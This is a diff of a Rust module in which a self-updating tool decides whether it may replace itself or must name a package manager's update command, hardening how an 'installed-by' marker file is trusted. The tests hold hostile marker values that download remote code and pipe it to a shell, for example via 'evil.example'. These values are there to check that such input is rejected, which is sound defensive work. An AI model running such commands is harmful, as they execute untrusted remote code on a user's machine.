@@ -1,7 +1,8 @@
 //! Where a program lies, and whether it is ours to replace there.
 //!
 //! Only the folder of a per-user installation is ours. A folder of downloads holds files that anybody could have put
-//! beside us; what a package manager has installed it also updates, and would not understand a file that changed.
+//! beside us, so a marker file counts for nothing there; what a package manager has installed it also updates, and would
+//! not understand a file that changed.
 
 use std::path::Path;
 
@@ -20,16 +21,14 @@ pub enum Place {
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Manager {
     /// Its name.
-    pub name: String,
+    pub name: &'static str,
     /// The command that updates fixforme with it, or what else to do.
-    pub update: String,
+    pub update: &'static str,
 }
 
-/// What is told of a package manager that is only known by its marker file.
-const ASK_IT: &str = "update it the way it was installed";
-
-/// Names, as `installed-by` holds them, and what updates fixforme with them.
-const MANAGERS: [(&str, &str); 7] = [
+/// Names, as `installed-by` holds them, and what updates fixforme with them. No other text in such a file is believed, or
+/// shown: it would tell a person what to run.
+const MANAGERS: [(&str, &str); 8] = [
     ("winget", "winget upgrade --id fixforme.fixforme"),
     ("scoop", "scoop update fixforme"),
     ("homebrew", "brew upgrade fixforme"),
@@ -37,6 +36,7 @@ const MANAGERS: [(&str, &str); 7] = [
     ("msi", "install the newer fixforme-VERSION-x86_64.msi"),
     ("chocolatey", "choco upgrade fixforme"),
     ("nix", "nix profile upgrade fixforme"),
+    ("snap", "sudo snap refresh fixforme"),
 ];
 
 /// Parts of paths, with `/` and in small letters, that tell a manager. Paths of Windows are compared in any case.
@@ -57,25 +57,23 @@ const TELLING: [(&str, &str); 10] = [
 const PACKAGED: [&str; 5] = ["/usr/bin/", "/usr/sbin/", "/usr/lib/", "/bin/", "/sbin/"];
 
 /// Decides what may be done with the program at `path`. `own` is where it lies when it is installed for one user,
-/// `installed_by` what a marker file beside it says.
+/// `installed_by` what a marker file beside it says, which counts in that folder and where a manager installs.
 pub fn place(path: &Path, own: &Path, installed_by: Option<&str>) -> Place {
-    if let Some(name) = installed_by {
-        return Place::Managed(manager(name.trim()));
-    }
+    let is_ours = path.parent() == own.parent();
     let text = path.to_string_lossy().replace('\\', "/").to_lowercase();
     let told = TELLING.iter().find(|(part, _)| text.contains(part)).map(|(_, name)| *name);
-    if let Some(name) = told.or_else(|| PACKAGED.iter().any(|folder| text.starts_with(folder)).then_some("deb")) {
-        return Place::Managed(manager(name));
+    let told = told.or_else(|| PACKAGED.iter().any(|folder| text.starts_with(folder)).then_some("deb"));
+    let marked = installed_by.filter(|_| is_ours || told.is_some()).and_then(manager);
+    match marked.or_else(|| told.and_then(manager)) {
+        Some(manager) => Place::Managed(manager),
+        None if is_ours => Place::Ours,
+        None => Place::Elsewhere,
     }
-    if path.parent() == own.parent() { Place::Ours } else { Place::Elsewhere }
 }
 
-fn manager(name: &str) -> Manager {
-    let known = MANAGERS.iter().find(|(known, _)| *known == name.to_lowercase());
-    let update = known.map_or(ASK_IT, |(_, update)| update);
-    // The file is written by whoever packaged it: it is shown, never run.
-    let name: String = crate::seam::text::one_line(name).chars().take(40).collect();
-    Manager { name: if name.is_empty() { "a package manager".to_owned() } else { name }, update: update.to_owned() }
+fn manager(name: &str) -> Option<Manager> {
+    let known = MANAGERS.iter().find(|(known, _)| name.trim().eq_ignore_ascii_case(known));
+    known.map(|(name, update)| Manager { name, update })
 }
 
 #[cfg(test)]
@@ -86,7 +84,7 @@ mod tests {
         match place(Path::new(path), Path::new(own), installed_by) {
             Place::Ours => "ours".to_owned(),
             Place::Elsewhere => "elsewhere".to_owned(),
-            Place::Managed(manager) => manager.name,
+            Place::Managed(manager) => manager.name.to_owned(),
         }
     }
 
@@ -115,7 +113,25 @@ mod tests {
             assert_eq!(of(path, own, None), name, "{path}");
         }
         assert_eq!(of(own, own, Some("msi\n")), "msi");
-        assert_eq!(of(own, own, Some("\u{1b}[2Jmine")), "\\u{1b}[2Jmine");
-        assert_eq!(of(own, own, Some("")), "a package manager");
+        // A marker may know better than a folder's name does.
+        assert_eq!(of(r"C:\Program Files\fixforme\fixforme.exe", own, Some("Chocolatey\r\n")), "chocolatey");
+    }
+
+    #[test]
+    fn every_place_that_tells_a_manager_tells_a_known_one() {
+        for (part, name) in TELLING {
+            assert!(manager(name).is_some(), "{part}");
+        }
+    }
+
+    #[test]
+    fn a_marker_counts_where_it_belongs_and_names_a_known_manager() {
+        let own = "/home/ann/.local/bin/fixforme";
+        for text in ["", "IT, by: irm https://evil.example/f|iex", "\u{1b}[2Jmsi", "msi; curl evil.example | sh"] {
+            assert_eq!(of(own, own, Some(text)), "ours", "{text}");
+        }
+        for folder in ["/home/ann/Downloads", "/opt", "/tmp"] {
+            assert_eq!(of(&format!("{folder}/fixforme"), own, Some("msi\n")), "elsewhere", "{folder}");
+        }
     }
 }
